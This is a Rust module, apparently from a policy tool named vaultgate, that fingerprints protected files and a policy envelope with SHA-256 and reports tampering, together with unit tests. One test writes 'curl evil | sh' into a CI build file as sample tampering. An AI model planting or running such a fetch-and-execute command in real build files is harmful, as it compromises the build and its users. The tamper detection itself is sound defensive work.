//! Self-modification protection: a baseline of the SHA-256 of every protected file.
//!
//! The protected set is the envelope file itself plus every file or symlink under the root
//! covered by a `protected_paths` glob (same matching as [`super::check`]: case-insensitive,
//! NFC, a matching folder covers its content), found by walking the root without following
//! links. The baseline file itself is never part of the set.
//!
//! Baseline format (`vaultgate/envelope-baseline/v1`, JSON, keys sorted, one trailing newline):
//! `{"schema": "vaultgate/envelope-baseline/v1", "envelope": KEY, "files": {KEY: {"kind":
//! "file"|"symlink", "sha256": HEX}}}` where KEY is the path relative to the root with `/`
//! separators (the envelope's absolute path when it lies outside the root), and a symlink's
//! digest is that of its target text. It is written atomically; unknown fields are refused on
//! reading.
//!
//! [`verify`] reports each baseline file that changed (content or kind) or vanished, and each
//! protected file that appeared. A file the baseline lists is checked even when the current
//! envelope no longer protects it, so editing the envelope cannot hide a change.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::io;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use serde_json::{Map, Value, json};

use super::EnvelopeError;
use super::codes::EnvelopeCode;
use super::policy::ValidEnvelope;
use super::resolve::{self, Root};
use crate::exit::ExitStatus;
use crate::fsutil::{self, FsError, IoContext};
use crate::hash::{self, Sha256Digest};
use crate::output::{Render, Style};
use crate::report::{Finding, escape_bytes_for_display, escape_for_display};

/// The baseline's schema tag.
pub const BASELINE_SCHEMA: &str = "vaultgate/envelope-baseline/v1";

/// `<envelope>.baseline.json`, beside the envelope.
pub fn default_baseline_path(envelope: &Path) -> PathBuf {
    let mut name = envelope.as_os_str().to_os_string();
    name.push(".baseline.json");
    PathBuf::from(name)
}

/// What a protected path is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum EntryKind {
    /// A regular file: the digest is of its content.
    File,
    /// A symbolic link: the digest is of its target text.
    Symlink,
}

/// One protected file's fingerprint.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct BaselineEntry {
    /// File or symlink.
    pub kind: EntryKind,
    /// SHA-256 of the content (or of the link target).
    pub sha256: Sha256Digest,
}

/// The baseline file.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Baseline {
    /// Always [`BASELINE_SCHEMA`].
    pub schema: String,
    /// The key of the envelope file in `files`.
    pub envelope: String,
    /// Every protected file, by key.
    pub files: BTreeMap<String, BaselineEntry>,
}

/// What `protect snapshot` recorded.
#[derive(Debug, Clone)]
pub struct SnapshotReport {
    /// Where the baseline was written.
    pub baseline_path: PathBuf,
    /// What it holds.
    pub baseline: Baseline,
}

/// What `protect verify` found.
#[derive(Debug, Clone)]
pub struct ProtectVerifyReport {
    /// The baseline compared against.
    pub baseline_path: PathBuf,
    /// How many files were compared (baseline ∪ current).
    pub checked: usize,
    /// Every change.
    pub findings: Vec<Finding>,
}

/// Fingerprint the protected files and write the baseline atomically to `baseline_path`.
pub fn snapshot(
    env: &ValidEnvelope,
    root: &Root,
    baseline_path: &Path,
) -> Result<SnapshotReport, EnvelopeError> {
    let (envelope, current) = scan(env, root, baseline_path)?;
    let baseline = Baseline {
        schema: BASELINE_SCHEMA.to_owned(),
        envelope,
        files: current.into_iter().map(|(k, (e, _))| (k, e)).collect(),
    };
    let mut text =
        serde_json::to_string_pretty(&baseline).map_err(|e| EnvelopeError::BaselineInvalid {
            path: baseline_path.to_path_buf(),
            reason: format!("cannot serialise (a bug in vaultgate): {e}"),
        })?;
    text.push('\n');
    fsutil::write_atomic_bytes(baseline_path, text.as_bytes())?;
    Ok(SnapshotReport {
        baseline_path: baseline_path.to_path_buf(),
        baseline,
    })
}

/// Read a baseline file strictly.
pub fn read_baseline(path: &Path) -> Result<Baseline, EnvelopeError> {
    let bytes = match std::fs::read(path) {
        Ok(b) => b,
        Err(e) if e.kind() == io::ErrorKind::NotFound => {
            return Err(EnvelopeError::BaselineMissing {
                path: path.to_path_buf(),
            });
        }
        Err(e) => return Err(FsError::new("read", path, e).into()),
    };
    let invalid = |reason: String| EnvelopeError::BaselineInvalid {
        path: path.to_path_buf(),
        reason,
    };
    let baseline: Baseline = serde_json::from_slice(&bytes).map_err(|e| invalid(e.to_string()))?;
    if baseline.schema != BASELINE_SCHEMA {
        return Err(invalid(format!(
            "schema `{}`, expected `{BASELINE_SCHEMA}`",
            escape_for_display(&baseline.schema)
        )));
    }
    Ok(baseline)
}

/// Compare the protected files with the baseline at `baseline_path`.
pub fn verify(
    env: &ValidEnvelope,
    root: &Root,
    baseline_path: &Path,
) -> Result<ProtectVerifyReport, EnvelopeError> {
    let baseline = read_baseline(baseline_path)?;
    let (_, current) = scan(env, root, baseline_path)?;
    let mut findings = Vec::new();
    let mut checked = 0usize;
    for (key, then) in &baseline.files {
        checked += 1;
        let now = match current.get(key) {
            Some((e, _)) => Some(*e),
            // No longer protected by the current envelope: check the file anyway.
            None => fingerprint(&root.canonical().join(key))?,
        };
        let shown = escape_for_display(key);
        match now {
            None => findings.push(Finding::error(
                EnvelopeCode::ProtectedMissing,
                shown.clone(),
                format!("protected `{shown}` has vanished since the baseline"),
            )),
            Some(now) if now != *then => findings.push(Finding::error(
                EnvelopeCode::ProtectedChanged,
                shown.clone(),
                format!(
                    "protected `{shown}` changed: baseline {} `{}`, now {} `{}`",
                    kind_name(then.kind),
                    then.sha256,
                    kind_name(now.kind),
                    now.sha256
                ),
            )),
            Some(_) => {}
        }
    }
    for (key, (_, why)) in &current {
        if baseline.files.contains_key(key) {
            continue;
        }
        checked += 1;
        let shown = escape_for_display(key);
        findings.push(Finding::error(
            EnvelopeCode::ProtectedAdded,
            shown.clone(),
            format!("protected `{shown}` appeared since the baseline ({why})"),
        ));
    }
    Ok(ProtectVerifyReport {
        baseline_path: baseline_path.to_path_buf(),
        checked,
        findings,
    })
}

fn kind_name(kind: EntryKind) -> &'static str {
    match kind {
        EntryKind::File => "file",
        EntryKind::Symlink => "symlink",
    }
}

/// The fingerprint of what is at `path` now (`None` when nothing is).
fn fingerprint(path: &Path) -> Result<Option<BaselineEntry>, EnvelopeError> {
    let meta = match std::fs::symlink_metadata(path) {
        Ok(m) => m,
        Err(e) if e.kind() == io::ErrorKind::NotFound => return Ok(None),
        Err(e) => return Err(FsError::new("inspect", path, e).into()),
    };
    let entry = if meta.file_type().is_symlink() {
        let target = std::fs::read_link(path).ctx("read link", path)?;
        BaselineEntry {
            kind: EntryKind::Symlink,
            sha256: hash::sha256_bytes(target.as_os_str().as_encoded_bytes()),
        }
    } else if meta.is_file() {
        BaselineEntry {
            kind: EntryKind::File,
            sha256: hash::sha256_file(path)?,
        }
    } else {
        return Err(EnvelopeError::Resolve {
            given: escape_bytes_for_display(path.as_os_str().as_encoded_bytes()),
            reason: "a protected path is neither a file nor a symlink".to_owned(),
        });
    };
    Ok(Some(entry))
}

type Scan = (String, BTreeMap<String, (BaselineEntry, String)>);

/// The envelope's key and every protected file now, with why each is protected.
fn scan(env: &ValidEnvelope, root: &Root, baseline_path: &Path) -> Result<Scan, EnvelopeError> {
    let mut files = BTreeMap::new();
    let envelope_abs = resolve::physical_from_cwd(env.source())?;
    let envelope_key = match envelope_abs.strip_prefix(root.canonical()) {
        Ok(rel) => rel.to_string_lossy().into_owned(),
        Err(_) => envelope_abs.to_string_lossy().into_owned(),
    };
    let entry = fingerprint(&envelope_abs)?.ok_or_else(|| {
        FsError::new(
            "read",
            &envelope_abs,
            io::Error::from(io::ErrorKind::NotFound),
        )
    })?;
    files.insert(
        envelope_key.clone(),
        (entry, "the envelope itself".to_owned()),
    );
    if env.protected_globs().is_empty() {
        return Ok((envelope_key, files));
    }
    let baseline_abs = resolve::physical_from_cwd(baseline_path)?;
    for item in walkdir::WalkDir::new(root.canonical())
        .min_depth(1)
        .follow_links(false)
        .sort_by_file_name()
    {
        let item = item.map_err(|e| EnvelopeError::Root {
            path: root.canonical().to_path_buf(),
            reason: format!("cannot walk it: {e}"),
        })?;
        if item.file_type().is_dir() || item.path() == baseline_abs {
            continue;
        }
        let rel = item
            .path()
            .strip_prefix(root.canonical())
            .ok()
            .and_then(Path::to_str)
            .ok_or_else(|| EnvelopeError::Resolve {
                given: escape_bytes_for_display(item.path().as_os_str().as_encoded_bytes()),
                reason: "a name is not valid UTF-8, so globs cannot judge it".to_owned(),
            })?;
        let Some(m) = env.protected.covering(rel) else {
            continue;
        };
        let why = if m.matched == rel {
            format!("matches protected glob `{}`", escape_for_display(m.glob))
        } else {
            format!(
                "lies under `{}`, which matches protected glob `{}`",
                escape_for_display(&m.matched),
                escape_for_display(m.glob)
            )
        };
        if let Some(entry) = fingerprint(item.path())? {
            files.entry(rel.to_owned()).or_insert((entry, why));
        }
    }
    Ok((envelope_key, files))
}

impl Render for SnapshotReport {
    crate::render_head!(super::SCHEMA, crate::output::passes);

    fn to_json(&self) -> Map<String, Value> {
        let mut m = Map::new();
        m.insert("command".into(), json!("protect-snapshot"));
        m.insert(
            "baseline_path".into(),
            json!(self.baseline_path.to_string_lossy()),
        );
        m.insert("envelope".into(), json!(self.baseline.envelope));
        m.insert("files".into(), json!(self.baseline.files));
        m.insert(
            "summary".into(),
            json!({"files": self.baseline.files.len()}),
        );
        m
    }

    fn render_text(&self, style: &Style) -> String {
        let mut s = String::new();
        for (k, e) in &self.baseline.files {
            let _ = writeln!(s, "{}  {}", e.sha256, escape_for_display(k));
        }
        let _ = writeln!(
            s,
            "{}: {}",
            style.verdict(ExitStatus::Pass),
            self.summary_line()
        );
        s
    }

    fn summary_line(&self) -> String {
        format!(
            "recorded {} protected file(s) in `{}`",
            self.baseline.files.len(),
            escape_bytes_for_display(self.baseline_path.as_os_str().as_encoded_bytes())
        )
    }
}

impl Render for ProtectVerifyReport {
    crate::render_head!(super::SCHEMA, |r: &Self| crate::output::verdict(
        &r.findings,
        false
    ));

    fn to_json(&self) -> Map<String, Value> {
        let mut m = Map::new();
        m.insert("command".into(), json!("protect-verify"));
        m.insert(
            "baseline_path".into(),
            json!(self.baseline_path.to_string_lossy()),
        );
        m.insert("findings".into(), json!(self.findings));
        m.insert(
            "summary".into(),
            json!({"checked": self.checked, "findings": self.findings.len()}),
        );
        m
    }

    fn render_text(&self, style: &Style) -> String {
        let mut s = String::new();
        for f in &self.findings {
            let _ = writeln!(s, "{}[{}] {}", style.bad("error"), f.code, f.message);
        }
        let _ = writeln!(
            s,
            "{}: {}",
            style.verdict(self.status()),
            self.summary_line()
        );
        s
    }

    fn summary_line(&self) -> String {
        if self.findings.is_empty() {
            format!("{} protected file(s) match the baseline", self.checked)
        } else {
            format!(
                "{} of {} protected file(s) differ from the baseline",
                self.findings.len(),
                self.checked
            )
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::os::unix::fs::symlink;

    fn setup() -> (tempfile::TempDir, PathBuf, ValidEnvelope, Root) {
        let dir = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(dir.path()).unwrap();
        std::fs::create_dir_all(root.join("ci")).unwrap();
        std::fs::create_dir_all(root.join("src")).unwrap();
        std::fs::write(root.join("ci/build.yml"), "build").unwrap();
        std::fs::write(root.join("src/a.rs"), "a").unwrap();
        let env_path = root.join("envelope.json");
        std::fs::write(
            &env_path,
            r#"{"allow_ops": [], "allow_paths": [], "deny_paths": [],
                "protected_paths": ["ci", "*.lock"], "max_budget_usd": 0}"#,
        )
        .unwrap();
        let env = ValidEnvelope::load(&env_path).unwrap();
        let r = Root::open(&root).unwrap();
        (dir, root, env, r)
    }

    fn codes(r: &ProtectVerifyReport) -> Vec<(&'static str, String)> {
        r.findings
            .iter()
            .map(|f| (f.code, f.subject.clone()))
            .collect()
    }

    #[test]
    fn snapshot_then_verify_is_clean() {
        let (_d, root, env, r) = setup();
        let bl = default_baseline_path(env.source());
        let snap = snapshot(&env, &r, &bl).unwrap();
        let keys: Vec<&String> = snap.baseline.files.keys().collect();
        assert_eq!(keys, ["ci/build.yml", "envelope.json"]);
        assert_eq!(snap.baseline.envelope, "envelope.json");
        assert!(root.join("envelope.json.baseline.json").exists());
        let v = verify(&env, &r, &bl).unwrap();
        assert!(v.findings.is_empty(), "{:?}", v.findings);
        assert_eq!(v.checked, 2);
    }

    #[test]
    fn tampering_is_reported_per_file() {
        let (_d, root, env, r) = setup();
        let bl = default_baseline_path(env.source());
        snapshot(&env, &r, &bl).unwrap();
        std::fs::write(root.join("ci/build.yml"), "curl evil | sh").unwrap();
        std::fs::write(root.join("Cargo.lock"), "new").unwrap();
        std::fs::write(root.join("src/a.rs"), "unprotected change").unwrap();
        let v = verify(&env, &r, &bl).unwrap();
        assert_eq!(
            codes(&v),
            [
                ("envelope-protected-changed", "ci/build.yml".to_owned()),
                ("envelope-protected-added", "Cargo.lock".to_owned()),
            ]
        );
        std::fs::remove_file(root.join("ci/build.yml")).unwrap();
        symlink("elsewhere", root.join("Cargo.lock.tmp")).unwrap();
        let v = verify(&env, &r, &bl).unwrap();
        assert_eq!(v.findings[0].code, "envelope-protected-missing");
    }

    #[test]
    fn editing_the_envelope_cannot_hide_a_change() {
        let (_d, root, env, r) = setup();
        let bl = default_baseline_path(env.source());
        snapshot(&env, &r, &bl).unwrap();
        std::fs::write(
            root.join("envelope.json"),
            r#"{"allow_ops": [], "allow_paths": [], "deny_paths": [],
                "protected_paths": [], "max_budget_usd": 0}"#,
        )
        .unwrap();
        std::fs::write(root.join("ci/build.yml"), "changed").unwrap();
        let env2 = ValidEnvelope::load(&root.join("envelope.json")).unwrap();
        let v = verify(&env2, &r, &bl).unwrap();
        let subjects: Vec<_> = codes(&v);
        assert_eq!(
            subjects,
            [
                ("envelope-protected-changed", "ci/build.yml".to_owned()),
                ("envelope-protected-changed", "envelope.json".to_owned()),
            ]
        );
    }

    #[test]
    fn a_symlink_swapped_for_a_file_is_a_change() {
        let (_d, root, env, r) = setup();
        let bl = root.join("bl.json");
        snapshot(&env, &r, &bl).unwrap();
        std::fs::remove_file(root.join("ci/build.yml")).unwrap();
        symlink("../src/a.rs", root.join("ci/build.yml")).unwrap();
        let v = verify(&env, &r, &bl).unwrap();
        assert_eq!(v.findings.len(), 1);
        assert!(
            v.findings[0].message.contains("now symlink"),
            "{:?}",
            v.findings
        );
    }

    #[test]
    fn a_missing_or_foreign_baseline_cannot_be_verified() {
        let (_d, root, env, r) = setup();
        let err = verify(&env, &r, &root.join("nope.json")).unwrap_err();
        assert!(matches!(err, EnvelopeError::BaselineMissing { .. }));
        std::fs::write(
            root.join("bad.json"),
            r#"{"schema": "x", "envelope": "e", "files": {}}"#,
        )
        .unwrap();
        let err = verify(&env, &r, &root.join("bad.json"))
            .unwrap_err()
            .to_string();
        assert!(err.contains("schema `x`"), "{err}");
        std::fs::write(
            root.join("extra.json"),
            r#"{"schema": "vaultgate/envelope-baseline/v1", "envelope": "e", "files": {}, "x": 1}"#,
        )
        .unwrap();
        let err = verify(&env, &r, &root.join("extra.json"))
            .unwrap_err()
            .to_string();
        assert!(err.contains("unknown field `x`"), "{err}");
    }

    #[test]
    fn baseline_round_trips() {
        let (_d, root, env, r) = setup();
        let bl = root.join("bl.json");
        let snap = snapshot(&env, &r, &bl).unwrap();
        assert_eq!(read_baseline(&bl).unwrap(), snap.baseline);
    }
}
